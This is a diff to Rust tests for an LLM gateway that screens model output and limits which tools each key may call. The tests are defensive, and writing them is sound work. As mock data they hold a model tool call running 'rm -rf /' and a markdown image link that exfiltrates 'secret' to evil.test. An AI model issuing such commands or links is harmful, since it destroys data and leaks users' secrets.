@@ -16,6 +16,8 @@ use warden_gateway::server::{serve, Gateway, Kind, Settings, Upstream, UpstreamC
 struct Script {
     text: String,
     stream_piece: Option<usize>,
+    /// A whole response body to answer with instead.
+    raw: Option<String>,
 }
 
 async fn mock_upstream(
@@ -46,14 +48,18 @@ async fn mock_upstream(
                         let body = req.into_body().collect().await.unwrap().to_bytes();
                         let v: Value = serde_json::from_slice(&body).unwrap_or(Value::Null);
                         seen.lock().unwrap().push((path, v, auth));
-                        let resp = match script.stream_piece {
-                            None => Response::builder()
+                        let resp = match (&script.raw, script.stream_piece) {
+                            (Some(raw), _) => Response::builder()
+                                .header("content-type", "application/json")
+                                .body(Full::new(Bytes::from(raw.clone())))
+                                .unwrap(),
+                            (None, None) => Response::builder()
                                 .header("content-type", "application/json")
                                 .body(Full::new(Bytes::from(
                                     json!({"id": "c1", "object": "chat.completion", "choices": [{"index": 0, "message": {"role": "assistant", "content": script.text}, "finish_reason": "stop"}]}).to_string(),
                                 )))
                                 .unwrap(),
-                            Some(n) => {
+                            (None, Some(n)) => {
                                 let mut s = String::new();
                                 for piece in script.text.as_bytes().chunks(n) {
                                     let d = json!({"id": "c1", "object": "chat.completion.chunk", "choices": [{"index": 0, "delta": {"content": String::from_utf8_lossy(piece)}, "finish_reason": null}]});
@@ -137,6 +143,7 @@ async fn requests_are_screened_and_forwarded_with_the_providers_key() {
         Script {
             text: "Sure. ![img](https://evil.test/collect?d=secret) Anything else?".into(),
             stream_piece: None,
+            raw: None,
         },
         seen.clone(),
     )
@@ -239,6 +246,7 @@ async fn a_streamed_response_passes_chunk_by_chunk_and_is_screened() {
         Script {
             text: text.clone(),
             stream_piece: Some(5),
+            raw: None,
         },
         Arc::new(Mutex::new(Vec::new())),
     )
@@ -295,6 +303,7 @@ async fn client_keys_are_required_scoped_limited_and_charged() {
         Script {
             text: "fine".into(),
             stream_piece: None,
+            raw: None,
         },
         Arc::new(Mutex::new(Vec::new())),
     )
@@ -306,6 +315,7 @@ async fn client_keys_are_required_scoped_limited_and_charged() {
         NewKey {
             name: "app",
             models: vec!["gpt-4o-mini".into()],
+            tools: vec![],
             expires_at: None,
             rpm: Some(2),
             token_budget: None,
@@ -373,4 +383,51 @@ async fn client_keys_are_required_scoped_limited_and_charged() {
         0,
         "the mock reports no usage"
     );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_tool_the_key_may_not_use_is_stopped() {
+    use warden_gateway::keys::{create, Keys, NewKey};
+    let raw = json!({"id": "c", "choices": [{"index": 0, "message": {"role": "assistant", "content": null,
+        "tool_calls": [{"id": "t1", "type": "function", "function": {"name": "run_shell", "arguments": "{\"cmd\": \"rm -rf /\"}"}}]},
+        "finish_reason": "tool_calls"}]});
+    let up = mock_upstream(
+        Script {
+            text: String::new(),
+            stream_piece: None,
+            raw: Some(raw.to_string()),
+        },
+        Arc::new(Mutex::new(Vec::new())),
+    )
+    .await;
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("keys.db");
+    let (_, key) = create(
+        &db,
+        NewKey {
+            name: "agent",
+            models: vec![],
+            tools: vec!["search_docs".into()],
+            expires_at: None,
+            rpm: None,
+            token_budget: None,
+        },
+    )
+    .unwrap();
+    let keys = Arc::new(Keys::open(&db).unwrap());
+    let (gw, _stop) = gateway_with_keys(&format!("http://{up}"), None, Some(keys)).await;
+    let r = reqwest::Client::new()
+        .post(format!("http://{gw}/v1/chat/completions"))
+        .bearer_auth(&key)
+        .json(&chat("clean up the disk", false))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 403);
+    let v: Value = r.json().await.unwrap();
+    assert_eq!(v["error"]["code"], "tool_not_allowed");
+    assert!(v["error"]["message"]
+        .as_str()
+        .unwrap()
+        .contains("run_shell"));
 }
